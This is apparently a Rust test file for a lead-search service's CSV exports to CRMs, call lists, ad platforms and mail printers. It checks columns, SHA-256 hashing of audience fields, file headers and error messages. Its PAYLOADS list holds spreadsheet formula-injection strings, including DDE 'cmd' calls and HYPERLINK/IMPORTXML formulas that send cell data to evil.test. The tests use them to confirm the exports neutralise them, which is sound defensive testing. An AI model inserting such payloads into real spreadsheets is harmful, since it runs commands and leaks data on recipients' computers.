//! Exports: what a spreadsheet, a CRM, a caller, an advertising platform and a printer get, and that it is harmless.

mod read_back;

use std::sync::Arc;

use canvass::exports::{Channel, Platform, Preset};
use canvass::listing::Listing;
use canvass::plan::{AddOn, Tier};
use http::{Method, StatusCode};
use rstest::rstest;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::support::{Answer, On, Scripted, TestApp, csv_lines as lines, listing, send};

/// What a cell must not begin with.
const FORMULA_STARTS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '|', '＝', '＋', '－', '＠'];

/// Names that do things when a spreadsheet, a terminal or a reader of CSV takes them for more than names.
const PAYLOADS: [&str; 21] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.test/?\",A1),\"//a\")",
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\",=1+1,\"",
    "a\r\n=1+1",
    "-",
    "+1-2",
    "=\"\"\"",
    "a;=1+1",
    "a\t=cmd|' /C calc'!A0",
    "a; \"=1+1\"",
    "'=1+1",
    "a;'=1+1",
];

fn columns(text: &str) -> &str {
    text.split("\r\n").next().unwrap()
}

/// A JSON value as a cell of the full export has it.
fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        // 5.0 and 5 are the same number.
        Value::Number(number) if number.is_f64() => number.as_f64().unwrap().to_string(),
        Value::Array(values) => values.iter().map(cell).collect::<Vec<_>>().join("; "),
        other => other.to_string(),
    }
}

/// Without the apostrophes that keep a spreadsheet from running a cell, or a part of it behind another separator; as
/// docs/exports.md says it is done.
fn meant(cell: &str) -> String {
    let parts = cell.split_inclusive([';', '\t', '\r', '\n']).enumerate();
    let parts = parts.map(|(at, part)| {
        let seen = part.trim_start_matches(|c: char| "'\"".contains(c) || is_unseen(c));
        part.strip_prefix('\'').filter(|_| at > 0 && runs(seen)).unwrap_or(part)
    });
    let text: String = parts.collect();
    let bare = text.trim_start_matches('\'');
    let seen = bare.trim_start_matches(is_unseen);
    let would_run = (bare.starts_with(FORMULA_STARTS) || seen.starts_with(FORMULA_STARTS)) && !is_number(seen);
    text.strip_prefix('\'').filter(|_| would_run).unwrap_or(&text).to_owned()
}

fn is_unseen(c: char) -> bool {
    c.is_whitespace() || c.is_control() || "\u{ad}\u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\u{2060}\u{feff}".contains(c)
}

/// Whether a spreadsheet would run a part of a cell; phones and numbers it would not.
fn runs(seen: &str) -> bool {
    seen.starts_with(FORMULA_STARTS) && !is_number(seen.trim_end_matches([';', '\t', '\r', '\n']))
}

fn is_number(text: &str) -> bool {
    text.strip_prefix(['+', '-']).is_some_and(|rest| {
        rest.chars().all(|c| c.is_ascii_digit() || " .()".contains(c)) && rest.contains(|c: char| c.is_ascii_digit())
    })
}

/// A test with a finished search of this many dentists in Austin.
async fn searched(on: On, count: i64) -> (TestApp, String, String) {
    let test = TestApp::new(on).await;
    let (_, key) = test.whole_account(10_000).await;
    let body = json!({"industry": "dentist", "location": "Austin, TX", "requested_count": count});
    let id = test.start(&key, body).await;
    test.work().await;
    (test, key, id)
}

/// A test with a finished search that found these.
async fn found(on: On, listings: Vec<Listing>) -> (TestApp, String, String) {
    let test = TestApp::listing(on, Arc::new(Scripted::listing(listings))).await;
    let (_, key) = test.whole_account(10_000).await;
    let id = test
        .start(&key, json!({"industry": "plumber", "location": "Plainville, Sandbox", "requested_count": 2_500}))
        .await;
    test.work().await;
    (test, key, id)
}

async fn campaign(test: &TestApp, key: &str, id: &str, query: &str) -> Answer {
    test.get(&format!("/searches/{id}/campaign-export?{query}"), key).await
}

fn sha256(text: &str) -> String {
    hex::encode(Sha256::digest(text.as_bytes()))
}

#[tokio::test]
async fn without_signals_plus_an_export_has_no_scores() {
    let test = TestApp::new(On::Sqlite).await;
    let account = test.account_with(Tier::Scale, 100, &[AddOn::Radar]).await;
    let key = test.key(&account).await;
    let id = test.start(&key, json!({"industry": "dentist", "location": "Austin, TX", "requested_count": 5})).await;
    test.work().await;
    for line in lines(&test.get(&format!("/searches/{id}/export"), &key).await.text) {
        assert_eq!(
            (line["premium_locked"].as_str(), line["score"].as_str(), line["reasons"].as_str()),
            ("true", "", "")
        );
    }
}

#[rstest]
#[case::sqlite(On::Sqlite)]
#[case::postgres(On::Postgres)]
#[tokio::test]
async fn payloads_do_nothing_in_any_file(#[case] on: On) {
    let hostile = |(number, payload): (usize, &&str)| {
        let mut listing = listing(number);
        listing.name = (*payload).to_owned();
        listing.phone = Some(format!("+1512555{:04}", 100 + number));
        let address = &mut listing.address;
        let texts = [&mut address.street, &mut address.city, &mut address.state, &mut address.postal_code];
        texts.into_iter().for_each(|text| *text = Some((*payload).to_owned()));
        listing
    };
    let (test, key, id) = found(on, PAYLOADS.iter().enumerate().map(hostile).collect()).await;
    let mut paths = vec![format!("/searches/{id}/export")];
    for query in ["channel=crm", "channel=call_list", "channel=ad_audience", "channel=direct_mail"] {
        paths.push(format!("/searches/{id}/campaign-export?{query}"));
    }
    paths.push(format!("/searches/{id}/campaign-export?channel=ad_audience&platform=meta&hashed=true"));
    for path in paths {
        let lines = lines(&test.get(&path, &key).await.text);
        assert_eq!(lines.len(), PAYLOADS.len(), "{path}");
        for (line, payload) in lines.iter().zip(PAYLOADS) {
            for (column, cell) in line {
                let number = cell.starts_with('+') && cell[1..].bytes().all(|byte| byte.is_ascii_digit());
                assert!(number || !cell.starts_with(FORMULA_STARTS), "{path} {column}: {cell:?}");
                for part in cell.split([';', '\t', '\r', '\n']).skip(1) {
                    let seen = part.trim_start_matches(|c: char| c == '"' || is_unseen(c));
                    assert!(!runs(seen), "{path} {column}, opened with another separator: {part:?}");
                }
            }
            for name in ["business_name", "Company", "Business Name"] {
                assert_eq!(line.get(name).map_or(payload.to_owned(), |cell| meant(cell)), payload, "{path}");
            }
        }
    }
}

#[rstest]
#[case::sqlite(On::Sqlite)]
#[case::postgres(On::Postgres)]
#[tokio::test]
async fn each_channel_has_the_columns_its_tools_import(#[case] on: On) {
    let (test, key, id) = searched(on, 60).await;
    let leads = test.leads(&key, &id).await;
    let ask = async |query: &str| campaign(&test, &key, &id, query).await.text;

    let crm = ask("channel=crm").await;
    let contact = "Company,First Name,Last Name,Job Title,Email,Phone,Website,Industry,Street Address,City,State,\
                   Postal Code,Country,Lead Source,lead_id,address,rating,";
    assert!(columns(&crm).starts_with(contact), "{}", columns(&crm));
    for (line, lead) in lines(&crm).iter().zip(&leads) {
        assert_eq!(meant(&line["Company"]), cell(&lead["business_name"]));
        assert_eq!(line["Email"], cell(&lead["primary_email"]));
        let named = lead["owner_name"].as_str().is_none_or(|name| name.contains(line["Last Name"].as_str()));
        assert!(named && line["State"].len() == 2 && line["Postal Code"].len() == 5, "{line:?}");
        assert_eq!(line["business_id"], cell(&lead["business_id"]));
    }
    assert!(
        columns(&ask("channel=crm&preset=hubspot").await).starts_with("Company name,First name,Last name,Job title")
    );
    assert!(
        columns(&ask("channel=crm&preset=salesforce").await)
            .contains(",Street,City,State,Postal Code,Country,Lead Source,")
    );
    assert!(
        columns(&ask("channel=crm&preset=pipedrive").await).starts_with("Organization - Name,Person - First name,")
    );

    let calls = ask("channel=call_list").await;
    assert_eq!(columns(&calls), "Business Name,Owner Name,Owner Title,Phone,Address,City,State,Postal Code");
    let with_phone = leads.iter().filter(|lead| lead["phone"].is_string());
    assert_eq!(
        lines(&calls).iter().map(|line| line["Phone"].clone()).collect::<Vec<_>>(),
        with_phone.map(|lead| cell(&lead["phone"])).collect::<Vec<_>>()
    );

    let letters = ask("channel=direct_mail").await;
    assert_eq!(columns(&letters), "Name,Company,Address 1,Address 2,City,State,ZIP,Country");
    let reachable = |lead: &&Value| ["street", "city", "postal_code"].iter().all(|field| lead[*field].is_string());
    assert_eq!(lines(&letters).len(), leads.iter().filter(reachable).count());
}

#[rstest]
#[case::sqlite(On::Sqlite)]
#[case::postgres(On::Postgres)]
#[tokio::test]
async fn audiences_are_hashed_as_each_platform_says(#[case] on: On) {
    let (test, key, id) = searched(on, 40).await;
    let ask = async |query: &str| campaign(&test, &key, &id, &format!("channel=ad_audience&{query}")).await.text;
    let plain = ask("platform=google").await;
    assert_eq!(columns(&plain), "Email,Phone,First Name,Last Name,Country,Zip");
    assert_eq!(ask("").await, plain, "Google is what is meant when nobody says");
    let (plain, hashed) = (lines(&plain), lines(&ask("hashed=true").await));
    let meta = ask("platform=meta&hashed=true").await;
    assert_eq!(columns(&meta), "email,phone,fn,ln,ct,st,zip,country");
    let meta = lines(&meta);
    assert_eq!(columns(&ask("platform=tiktok&hashed=true").await), "Email_SHA256,Phone_SHA256");
    let linkedin = ask("platform=linkedin").await;
    assert_eq!(columns(&linkedin), "email,firstname,lastname,jobtitle,employeecompany,country,googleaid");
    let hash = |text: &str| if text.is_empty() { String::new() } else { sha256(text) };
    assert!(plain.len() == hashed.len() && plain.len() == meta.len() && !plain.is_empty());
    for ((plain, hashed), meta) in plain.iter().zip(&hashed).zip(&meta) {
        assert_eq!((&hashed["Country"], &hashed["Zip"]), (&plain["Country"], &plain["Zip"]), "these stay readable");
        assert_eq!(hashed["Email"], hash(&plain["Email"]));
        assert_eq!(hashed["Phone"], hash(&plain["Phone"]));
        assert_eq!(hashed["Last Name"], hash(&plain["Last Name"].to_lowercase()));
        assert_eq!(meta["email"], hashed["Email"]);
        assert_eq!(meta["phone"], hash(plain["Phone"].trim_start_matches('+')));
        assert_eq!((&meta["country"], &meta["zip"]), (&hash("us"), &hash(&plain["Zip"])));
        assert_eq!((&meta["ct"], &meta["st"]), (&hash("austin"), &hash("tx")));
    }
}

#[rstest]
#[case::sqlite(On::Sqlite)]
#[case::postgres(On::Postgres)]
#[tokio::test]
async fn a_file_has_a_name_a_tag_and_the_status_of_its_search(#[case] on: On) {
    let (test, key, id) = searched(on, 5).await;
    let path = format!("/searches/{id}/export");
    let export = test.get(&path, &key).await;
    let named = "attachment; filename=\"leads-dentist-austin-tx-2026-11-15.csv\"";
    assert_eq!((export.header("content-disposition"), export.header("x-search-status")), (named, "done"));
    let again = |path: &str, tag: &str| {
        send(test.request(Method::GET, path).header("X-API-Key", &key).header("If-None-Match", tag))
    };
    let unchanged = again(&path, export.header("etag")).await;
    assert_eq!((unchanged.status, unchanged.text.as_str()), (StatusCode::NOT_MODIFIED, ""));
    let with_mark = again(&format!("{path}?bom=true"), export.header("etag")).await;
    assert_eq!(with_mark.text, format!("\u{feff}{}", export.text));
    let head = send(test.request(Method::HEAD, &path).header("X-API-Key", &key)).await;
    assert_eq!((head.status, head.text.as_str()), (StatusCode::OK, ""));
    assert_eq!((head.header("content-disposition"), head.header("etag")), (named, export.header("etag")));
    let crm = campaign(&test, &key, &id, "channel=crm").await;
    assert!(crm.header("content-disposition").contains("leads-crm-dentist-austin-tx-2026-11-15.csv"), "{crm:?}");
}

#[tokio::test]
async fn a_file_from_a_place_beyond_ascii_has_both_names() {
    let test = TestApp::listing(On::Sqlite, Arc::new(Scripted::of(1))).await;
    let (_, key) = test.whole_account(10).await;
    let id = test.start(&key, json!({"industry": "plumber", "location": "Zürich"})).await;
    let export = test.get(&format!("/searches/{id}/export"), &key).await;
    let name = "attachment; filename=\"leads-plumber-zurich-2026-11-15.csv\"; \
                filename*=UTF-8''leads-plumber-z%C3%BCrich-2026-11-15.csv";
    assert_eq!(export.header("content-disposition"), name);
}

#[rstest]
#[case::sqlite(On::Sqlite)]
#[case::postgres(On::Postgres)]
#[tokio::test]
async fn a_running_search_exports_what_it_has(#[case] on: On) {
    let (scripted, gate) = Scripted::of(20).gated();
    let test = TestApp::listing(on, Arc::new(scripted)).await;
    let (_, key) = test.whole_account(100).await;
    let id = test
        .start(&key, json!({"industry": "plumber", "location": "Plainville, Sandbox", "requested_count": 20}))
        .await;
    let path = format!("/searches/{id}/export");
    let empty = test.get(&path, &key).await;
    assert_eq!((empty.header("x-search-status"), lines(&empty.text).len()), ("running", 0));
    let _worker = test.worker();
    gate.add_permits(7);
    test.until(&key, &id, |search| search["leads_found"] == 7).await;
    let some = test.get(&path, &key).await;
    assert_eq!((some.header("x-search-status"), lines(&some.text).len()), ("running", 7));
    assert_ne!(some.header("etag"), empty.header("etag"));
    gate.add_permits(13);
    test.until(&key, &id, |search| search["status"] == "done").await;
    let all = test.get(&path, &key).await;
    assert_eq!((all.header("x-search-status"), lines(&all.text).len()), ("done", 20));
}

#[rstest]
#[case::sqlite(On::Sqlite)]
#[case::postgres(On::Postgres)]
#[tokio::test]
async fn two_and_a_half_thousand_leads_come_in_pieces(#[case] on: On) {
    let (test, key, id) = found(on, (0..2_500).map(listing).collect()).await;
    let path = format!("/searches/{id}/export");
    let mut response = test.request(Method::GET, &path).header("X-API-Key", &key).send().await.unwrap();
    assert_eq!(response.headers().get("content-length"), None, "nobody has counted it beforehand");
    let (mut text, mut pieces) = (Vec::new(), 0);
    while let Some(piece) = response.chunk().await.unwrap() {
        text.extend_from_slice(&piece);
        pieces += 1;
    }
    assert!(pieces > 5, "{pieces}");
    let lines = lines(std::str::from_utf8(&text).unwrap());
    let names: Vec<&str> = lines.iter().map(|line| line["business_name"].as_str()).collect();
    assert_eq!(names, (0..2_500).map(|number| format!("Business {number}")).collect::<Vec<_>>());
}

#[test]
fn the_api_document_names_every_choice() {
    let document = serde_json::to_value(server::router::document()).unwrap();
    let parameters = &document["paths"]["/searches/{search_id}/campaign-export"]["get"]["parameters"];
    let pattern = |name: &str| {
        let found = parameters.as_array().unwrap().iter().find(|parameter| parameter["name"] == name).unwrap();
        found["schema"]["pattern"].as_str().unwrap().to_owned()
    };
    assert_eq!(pattern("channel"), format!("^({})$", Channel::ALL.map(Channel::name).join("|")));
    assert_eq!(pattern("preset"), format!("^({})$", Preset::ALL.map(Preset::name).join("|")));
    assert_eq!(pattern("platform"), format!("^({})$", Platform::ALL.map(Platform::name).join("|")));
}

#[tokio::test]
async fn what_no_channel_understands_is_named() {
    let (test, key, id) = searched(On::Sqlite, 1).await;
    let four = "crm, call_list, ad_audience, direct_mail";
    for (query, field, says) in [
        ("", "channel", four),
        ("channel=", "channel", four),
        ("channel=fax", "channel", four),
        ("channel=CRM", "channel", four),
        ("chanel=crm", "chanel", "did you mean channel?"),
        ("channel=crm&preset=zoho", "preset", "hubspot, salesforce, pipedrive"),
        ("channel=ad_audience&platform=x", "platform", "google, meta, tiktok, linkedin"),
        ("channel=ad_audience&hashed=maybe", "hashed", "true or false"),
        ("channel=crm&bom=7", "bom", "true or false"),
        ("channel=crm&platform=meta", "platform", "channel=ad_audience"),
        ("channel=call_list&hashed=true", "hashed", "channel=ad_audience"),
        ("channel=ad_audience&preset=hubspot", "preset", "channel=crm"),
    ] {
        let answer = campaign(&test, &key, &id, query).await;
        assert_eq!(
            (answer.status, answer.code().as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, "invalid_fields"),
            "{query}"
        );
        let error = &answer.json()["errors"][0];
        assert!(error["field"] == field && error["message"].as_str().unwrap().contains(says), "{query}: {error}");
        assert!(answer.json()["detail"].as_str().unwrap().contains(says), "{query}");
    }
    let unknown = test.get(&format!("/searches/{id}/export?format=xlsx"), &key).await;
    assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY);
    for wrong in ["019a8546-6d1b-7cc0-b6dd-8f3b5f0c9d11", "x"] {
        let answer = test.get(&format!("/searches/{wrong}/campaign-export?channel=crm"), &key).await;
        assert_eq!((answer.status, answer.code().as_str()), (StatusCode::NOT_FOUND, "not_found"));
    }
}
